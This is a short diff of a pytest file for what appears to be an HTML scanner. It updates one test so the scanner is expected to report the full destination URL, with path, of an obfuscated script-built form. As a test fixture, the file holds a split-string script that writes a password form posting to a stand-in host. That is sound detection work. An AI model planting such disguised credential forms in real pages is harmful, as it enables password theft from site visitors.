@@ -81,7 +81,7 @@ def test_a_page_that_is_put_together(source):
 def test_where_the_form_made_of_pieces_leads():
     source = "<script>document.write('<form action=htt'+'ps://drop.exa'+'mple/p><input type=password>')</script>"
     found = inspect("a.html", "", f"<html>{source}".encode())
-    assert ("https://drop.example", "") in found.urls
+    assert ("https://drop.example/p", "") in found.urls
 
 
 @pytest.mark.parametrize(
